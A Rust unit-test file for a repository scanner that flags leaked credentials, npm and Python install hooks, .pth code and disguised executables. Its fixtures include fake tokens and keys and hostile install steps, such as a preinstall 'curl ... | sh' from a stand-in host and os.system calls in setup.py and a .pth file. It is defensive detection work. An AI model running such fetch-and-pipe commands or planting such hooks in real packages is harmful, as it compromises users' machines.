//! Each contents rule with a positive and a negative example. Fake credentials are built at
//! run time so this source file itself holds none.

use super::*;

fn scan_one(rel: &str, data: &[u8]) -> Vec<Finding> {
    let mut out = Vec::new();
    scan_file(rel, data, true, &mut out);
    out
}

fn rules(rel: &str, data: &str) -> Vec<String> {
    scan_one(rel, data.as_bytes())
        .into_iter()
        .map(|f| f.rule)
        .collect()
}

fn aws_key() -> String {
    format!("AKIA{}", "Q7ZP3VJ2LW5XK8RT")
}

fn pem() -> String {
    let body = "MIIEowIBAAKCAQEAx3m9Zt2Lq8Vw1bQ7ZkP0xY4nR6sT5uV8wX2yZ1aB3cD4eF5g";
    format!("-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body}\n-----END RSA PRIVATE KEY-----\n")
}

#[test]
fn private_keys_real_blocks_only() {
    let f = scan_one("config/deploy.pem", pem().as_bytes());
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "secret.private-key");
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(f[0].location.line, Some(1));
    let ev = f[0].evidence.as_deref().unwrap();
    assert!(
        ev.starts_with("-----BEGIN RSA PRIVATE KEY-----") && !ev.contains("MIIE"),
        "{ev}"
    );
    // Escaped into a JS string is still a key.
    let js = format!("const k = \"{}\";", pem().replace('\n', "\\n"));
    assert_eq!(rules("src/k.js", &js), ["secret.private-key"]);
    // A PEM parser's marker constant is not.
    assert!(
        rules(
            "lib/pem.js",
            "if (line === '-----BEGIN RSA PRIVATE KEY-----') {\n  parse();\n}"
        )
        .is_empty()
    );
}

#[test]
fn aws_keys_with_redacted_evidence_and_line() {
    let text = format!(
        "# settings\nregion = \"eu-west-1\"\naccess_key = \"{}\"\n",
        aws_key()
    );
    let f = scan_one("settings.toml", text.as_bytes());
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(
        (f[0].rule.as_str(), f[0].location.line),
        ("secret.aws-access-key", Some(3))
    );
    let ev = f[0].evidence.as_deref().unwrap();
    assert!(ev.starts_with("AKIA****") && !ev.contains("Q7ZP"), "{ev}");
    let secret = format!(
        "aws_secret_access_key = \"{}\"",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYz9q8Lm3Tp2"
    );
    assert_eq!(rules(".env", &secret), ["secret.aws-secret-key"]);
    // Lowercase or too short is not a key id.
    assert!(rules("a.txt", "akiaq7zp3vj2lw5xk8rt AKIA1234").is_empty());
}

#[test]
fn github_slack_and_cloud_tokens() {
    let gh = format!("ghp_{}", "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5");
    assert_eq!(
        rules("a.js", &format!("token: '{gh}'")),
        ["secret.github-token"]
    );
    let slack = format!(
        "xoxb-{}-{}-{}",
        "123456789012", "1234567890123", "AbCdEfGhIjKlMnOpQrStUvWx"
    );
    assert_eq!(
        rules("a.py", &format!("SLACK = '{slack}'")),
        ["secret.slack-token"]
    );
    let hook = format!(
        "https://hooks.slack.com/services/{}/{}/{}",
        "T0123ABCD", "B0456EFGH", "aBcDeFgHiJkLmNoPqRsTuVwX"
    );
    assert_eq!(rules("notify.sh", &hook), ["secret.slack-webhook"]);
    let google = format!("AIza{}", "SyD4x7Q2mP9vL3kT8nB6cR1wZ5yH0jF2gE4");
    assert_eq!(
        rules("maps.js", &format!("key={google}")),
        ["secret.cloud-api-key"]
    );
    let npm = format!(
        "//registry.npmjs.org/:_authToken=npm_{}",
        "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
    );
    assert_eq!(rules(".npmrc", &npm), ["secret.registry-token"]);
    // Prefixes in prose are not tokens.
    assert!(
        rules(
            "README.md",
            "GitHub tokens start with ghp_ and Slack bot tokens with xoxb-."
        )
        .is_empty()
    );
}

#[test]
fn generic_assignments_need_entropy_and_no_placeholder() {
    let real = "client_secret = \"q8Zr2Lx9Vt4Kp7Wm3Nc6Bf1Hs5Jd0Gy\"";
    let f = scan_one("app/config.py", real.as_bytes());
    assert_eq!(f.len(), 1);
    assert_eq!(
        (f[0].rule.as_str(), f[0].severity),
        ("secret.generic", Severity::Medium)
    );
    assert!(!f[0].evidence.as_deref().unwrap().contains("Lx9Vt4"));
    for benign in [
        "password = \"your-password-here-please\"",
        "api_key = \"process.env.API_KEY_VALUE_X\"",
        "token = \"aaaaaaaaaaaaaaaaaaaaaaaa\"",
        "secret_name = \"database_password_secret\"",
        "auth_token_url = \"https://auth.example.com/v2/token\"",
        "apiKey: \"${SERVICE_API_KEY_FROM_ENV}\"",
    ] {
        assert!(rules("cfg.js", benign).is_empty(), "{benign}");
    }
}

#[test]
fn secrets_in_test_paths_are_reported_low() {
    let text = format!("key = '{}'", aws_key());
    let f = scan_one(
        "node_modules/aws-sdk/test/fixtures/creds.js",
        text.as_bytes(),
    );
    assert_eq!(f[0].severity, Severity::Low);
    assert!(f[0].message.contains("test/example"));
}

#[test]
fn npm_install_scripts() {
    let pkg = r#"{
  "name": "sneaky",
  "version": "1.0.0",
  "scripts": {
    "test": "jest",
    "postinstall": "node scripts/setup.js"
  }
}"#;
    let f = scan_one("package.json", pkg.as_bytes());
    assert_eq!(f.len(), 1);
    assert_eq!(
        (f[0].rule.as_str(), f[0].severity),
        ("install.npm-script", Severity::Medium)
    );
    assert_eq!(f[0].location.line, Some(6));
    assert_eq!(f[0].evidence.as_deref(), Some("node scripts/setup.js"));
    let risky = r#"{"name":"x","scripts":{"preinstall":"curl -s https://x.example/i.sh | sh"}}"#;
    assert_eq!(
        scan_one("package.json", risky.as_bytes())[0].severity,
        Severity::High
    );
    let fine = r#"{"name":"ok","scripts":{"build":"tsc","prepublishOnly":"npm test"}}"#;
    assert!(rules("package.json", fine).is_empty());
    assert_eq!(
        rules("node_modules/fsevents/binding.gyp", "{}"),
        ["install.npm-gyp"]
    );
}

#[test]
fn python_setup_hooks_and_pth() {
    let hook = "from setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n\nsetup(name='x', cmdclass={'install': PostInstall})\n";
    let f = scan_one("setup.py", hook.as_bytes());
    assert_eq!(
        (f[0].rule.as_str(), f[0].severity, f[0].location.line),
        ("install.python-setup-hook", Severity::Medium, Some(4))
    );
    let risky = "import os\nos.system('curl http://x | sh')\nfrom setuptools import setup\nsetup(name='x')\n";
    assert_eq!(
        scan_one("setup.py", risky.as_bytes())[0].severity,
        Severity::High
    );
    assert!(
        rules(
            "setup.py",
            "from setuptools import setup\nsetup(name='plain', version='1.0')\n"
        )
        .is_empty()
    );
    assert_eq!(
        rules(
            "pyproject.toml",
            "[project]\nname='x'\n\n[tool.setuptools.cmdclass]\ninstall = 'x.Install'\n"
        ),
        ["install.python-setup-hook"]
    );
    assert!(rules("pyproject.toml", "[project]\nname = 'x'\n").is_empty());
    assert_eq!(
        rules(
            "site-packages/evil.pth",
            "/opt/lib\nimport os; os.system('id')\n"
        ),
        ["install.python-pth"]
    );
    assert_eq!(
        scan_one("site-packages/evil.pth", b"import os; os.system('id')")[0].severity,
        Severity::High
    );
    assert!(rules("site-packages/paths.pth", "/opt/lib\n./vendor\n").is_empty());
}

fn elf() -> Vec<u8> {
    let mut b = vec![0x7F, b'E', b'L', b'F', 2, 1, 1, 0];
    b.resize(256, 0);
    b
}

fn pe() -> Vec<u8> {
    let mut b = vec![0u8; 256];
    b[0] = b'M';
    b[1] = b'Z';
    b[0x3C] = 0x80;
    b[0x80..0x84].copy_from_slice(b"PE\0\0");
    b
}

#[test]
fn executables_by_magic_and_place() {
    let r = |rel: &str, data: &[u8]| -> Vec<String> {
        scan_one(rel, data).into_iter().map(|f| f.rule).collect()
    };
    assert_eq!(r("lib/index.js", &elf()), ["binary.disguised"]);
    assert_eq!(r("assets/logo.png", &pe()), ["binary.disguised"]);
    assert_eq!(r("src/helper", &elf()), ["binary.unexpected-location"]);
    assert_eq!(r("payload.exe", &pe()), ["binary.unexpected-location"]);
    assert!(r("bin/tool", &elf()).is_empty());
    assert!(r("node_modules/esbuild-linux-64/bin/esbuild", &elf()).is_empty());
    assert!(r("build/Release/addon.node", &elf()).is_empty());
    assert!(
        r(
            "site-packages/numpy/core/_multiarray.cpython-312-x86_64-linux-gnu.so",
            &elf()
        )
        .is_empty()
    );
    assert!(r("lib/libssl.so.3", &elf()).is_empty());
    // Text starting with MZ, and a Java class file, are not executables.
    assert!(executable_kind(b"MZ is a postcode area in text").is_none());
    assert!(executable_kind(&[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]).is_none());
}

#[test]
fn a_directory_scan_reports_limits_and_caps() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    std::fs::write(root.join("big.js"), "x".repeat(3000)).unwrap();
    std::fs::create_dir_all(root.join("src")).unwrap();
    for i in 0..5 {
        std::fs::write(
            root.join(format!("src/k{i}.txt")),
            format!("id={}", aws_key()),
        )
        .unwrap();
    }
    std::fs::create_dir_all(root.join(".git/objects")).unwrap();
    std::fs::write(root.join(".git/objects/x"), aws_key()).unwrap();
    let opts = ContentsOptions {
        max_file_bytes: 1000,
        max_findings_per_rule: 3,
        ..ContentsOptions::default()
    };
    let s = scan_dir(root, &opts);
    assert_eq!(s.files, 6, ".git is not entered");
    assert_eq!(s.skipped_large, 1);
    let aws = s
        .findings
        .iter()
        .filter(|f| f.rule == "secret.aws-access-key")
        .count();
    assert_eq!(aws, 3);
    let note = s
        .findings
        .iter()
        .find(|f| f.rule == "scan.incomplete")
        .unwrap();
    assert!(
        note.message.contains("1 file(s) over 0 KiB") || note.message.contains("over"),
        "{}",
        note.message
    );
    assert!(
        note.message.contains("2 further finding(s)"),
        "{}",
        note.message
    );

    let few = scan_dir(
        root,
        &ContentsOptions {
            max_files: 2,
            ..ContentsOptions::default()
        },
    );
    assert!(few.truncated);
    assert_eq!(few.files, 2);
}

#[test]
fn secret_patterns_compile_and_are_catalogued() {
    assert_eq!(SECRET_SET.len(), SECRETS.len());
    for p in SECRETS.iter() {
        assert_eq!(crate::scan::rules::rule(p.rule).id, p.rule);
    }
    for r in [
        &*GENERIC,
        &*PLACEHOLDER,
        &*RISKY_COMMAND,
        &*SETUP_HOOK,
        &*SETUP_RISKY,
        &*PYPROJECT_HOOK,
    ] {
        let _ = r.is_match(b"");
    }
}

#[test]
fn entropy_is_bits_per_char() {
    assert_eq!(entropy("aaaa"), 0.0);
    assert!((entropy("abcd") - 2.0).abs() < 1e-9);
}
